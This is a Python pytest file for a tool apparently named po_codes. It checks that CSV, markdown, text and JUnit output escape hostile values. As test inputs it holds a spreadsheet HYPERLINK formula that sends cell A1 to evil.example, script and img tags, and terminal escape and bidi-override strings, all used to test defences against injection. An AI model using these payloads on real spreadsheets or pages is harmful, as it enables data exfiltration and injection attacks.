"""Issue 25, "Output that is safe to open": no spreadsheet formula in CSV, no markup in
markdown, no raw control character in text, well-formed JUnit whatever the values, and
a green exit code is a green JUnit report."""

from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import po_codes as po
from po_codes._cli import main
from po_codes._formats.tables import safe_csv

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


def report_of(value: str) -> po.ValidationReport[pl.DataFrame]:
    """A report whose messages and columns carry ``value`` as written."""
    return po.validate(
        pl.DataFrame({"task_id": [value, "2"], "closure_code": [value, "Sak opprettet"]})
    )


# -- CSV -----------------------------------------------------------------------------------


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_no_csv_text_cell_starts_a_formula(values: list[str]) -> None:
    written = safe_csv(pl.DataFrame({"a": values, "n": list(range(len(values)))}))
    rows = list(csv.reader(io.StringIO(written)))
    cells = [row[0] for row in rows[1:]]
    assert len(cells) == len(values)
    for cell, value in zip(cells, values, strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell in (value, "'" + value)  # nothing lost: one quote at most


def test_figures_csv_of_a_hostile_by_value(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    pl.DataFrame(
        {
            "closure_code": ["Utført", "Sak opprettet", "Utført"],
            "team": [FORMULA, "-1+2", "@SUM(A1)"],
        }
    ).write_csv("x.csv")
    assert main(["figures", "x.csv", "--by", "team", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    units = {row["team"] for row in rows}
    assert units == {"'" + FORMULA, "'-1+2", "'@SUM(A1)"}


def test_codes_csv_is_safe_too(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["codes", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == "code,label,group,requires_resource,label_en"
    assert not any(line.startswith(("=", "+", "-", "@")) for line in out.splitlines())


# -- markdown and the GitHub step summary --------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["<script>alert(1)</script>", "**bold** _x_ `code` [l](http://x) | pipe |", "<img src=x>"],
)
def test_markdown_escapes_values(value: str) -> None:
    markdown = report_of(value).to_markdown()
    assert "<script" not in markdown
    assert "<img" not in markdown
    assert "**bold**" not in markdown
    assert "[l](" not in markdown
    for line in markdown.splitlines():
        if line.startswith("|"):  # a table row keeps its 5 cells
            assert len(re.findall(r"(?<!\\)\|", line)) == 6


def test_the_step_summary_is_escaped_markdown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    pl.DataFrame({"closure_code": ["<b>x</b>"], "task_id": ["<i>1</i>"]}).write_csv("x.csv")
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    assert main(["validate", "x.csv", "--format", "github"]) == 1
    capsys.readouterr()
    written = summary.read_text("utf-8")
    assert "po-codes validation" in written
    assert "<b>" not in written
    assert "&lt;b&gt;" in written


def test_an_unwritable_step_summary_is_exit_2_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    pl.DataFrame({"closure_code": ["Utført"]}).write_csv("x.csv")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "missing" / "summary.md"))
    assert main(["validate", "x.csv", "--format", "github"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "summary.md" in err


# -- text ----------------------------------------------------------------------------------


def test_text_shows_escape_sequences_visibly() -> None:
    text = report_of("\x1b[31mred\x1b[0m\rover\u202eevil").to_text(200)
    assert "\x1b" not in text
    assert "\r" not in text
    assert "\u202e" not in text
    assert "\\x1b[31mred" in text
    assert "\\r" in text
    assert "\\u202e" in text


@given(st.text(min_size=1, max_size=30))
def test_no_raw_control_character_in_any_text_output(value: str) -> None:
    report = report_of(value)
    for output in (report.to_text(), report.to_markdown(), report.to_github()):
        assert not CONTROL.search(output)
        assert "\r" not in output


@pytest.mark.parametrize("width", [40, 60, 100])
def test_text_wraps_to_the_width(width: int) -> None:
    text = report_of("Ordnet pa sted " * 20).to_text(width)
    assert max(len(line) for line in text.splitlines()) <= width
    assert "Ordnet" in text


def test_text_wraps_to_the_terminal_else_80(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "50")
    narrow = report_of("x " * 100).to_text()
    assert max(len(line) for line in narrow.splitlines()) <= 50
    monkeypatch.delenv("COLUMNS")
    monkeypatch.setattr(
        "shutil.get_terminal_size", lambda fallback=(80, 24): os.terminal_size(fallback)
    )
    default = report_of("x " * 100).to_text()
    assert 70 < max(len(line) for line in default.splitlines()) <= 80


# -- JUnit ---------------------------------------------------------------------------------


@given(st.text(max_size=30))
def test_junit_is_well_formed_for_any_value(value: str) -> None:
    root = ET.fromstring(report_of(value or "x").to_junit())  # noqa: S314  (our own output)
    assert root.tag == "testsuites"
    assert len(root.findall("testsuite/testcase")) == len(po.RULES)


def test_info_findings_are_not_junit_failures() -> None:
    frame = pl.DataFrame({"closure_code": ["Overtatt"], "handled_by": [None]})
    report = po.validate(frame.cast({"handled_by": pl.String}))
    assert report.ok
    assert report.summary.filter(rule_id="PO207")["status"].item() == "failed"
    suite = ET.fromstring(report.to_junit()).find("testsuite")  # noqa: S314
    assert suite is not None
    assert suite.get("failures") == "0"
    assert suite.find("testcase/failure") is None
    out = suite.find("testcase/system-out")
    assert out is not None
    assert "row 0" in (out.text or "")
    # a warning counts as a failure only when the run fails on warnings
    warned = po.validate(pl.DataFrame({"closure_code": ["Ikke kapasitet"], "priority": ["5"]}))
    assert ET.fromstring(warned.to_junit()).find("testsuite/testcase/failure") is None  # noqa: S314
    strict = ET.fromstring(warned.to_junit(fail_on="warning"))  # noqa: S314
    assert strict.find("testsuite/testcase/failure") is not None


# -- where the report goes -----------------------------------------------------------------


def test_output_never_overwrites_an_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    pl.DataFrame({"closure_code": ["Utført"]}).write_csv("x.csv")
    before = Path("x.csv").read_bytes()
    assert main(["validate", "x.csv", "--output", "./x.csv"]) == 2
    assert "x.csv" in capsys.readouterr().err
    assert Path("x.csv").read_bytes() == before
    assert main(["figures", "x.csv", "--output", "x.csv"]) == 2
    assert Path("x.csv").read_bytes() == before


@pytest.mark.parametrize("fmt", ["text", "markdown", "github", "junit", "html", "json"])
def test_a_cp1252_console_degrades_characters_never_exit_3(fmt: str, tmp_path: Path) -> None:
    import subprocess  # noqa: PLC0415
    import sys  # noqa: PLC0415

    pl.DataFrame(
        {"closure_code": ["Ordnet på sted", "Sak opprettet"], "case_number": ["", ""]}
    ).write_csv(tmp_path / "x.csv")
    done = subprocess.run(  # noqa: S603  (our own command, fixed arguments)
        [sys.executable, "-m", "po_codes._cli", "validate", str(tmp_path / "x.csv"),
         "--format", fmt, "--lang", "nb"],
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "cp1252"},
        check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert b"internal error" not in done.stderr


@pytest.mark.parametrize(
    ("call", "error"),
    [
        (lambda r: r.to_text(max_failures=-1), po.InvalidArgumentError),
        (lambda r: r.to_markdown(max_failures="3"), TypeError),
        (lambda r: r.to_text("80"), TypeError),
        (lambda r: r.to_junit(fail_on="fatal"), po.InvalidArgumentError),
    ],
)
def test_bad_format_arguments_are_clear_errors(
    call: Callable[[po.ValidationReport[pl.DataFrame]], str], error: type[Exception]
) -> None:
    with pytest.raises(error):
        call(report_of("x"))
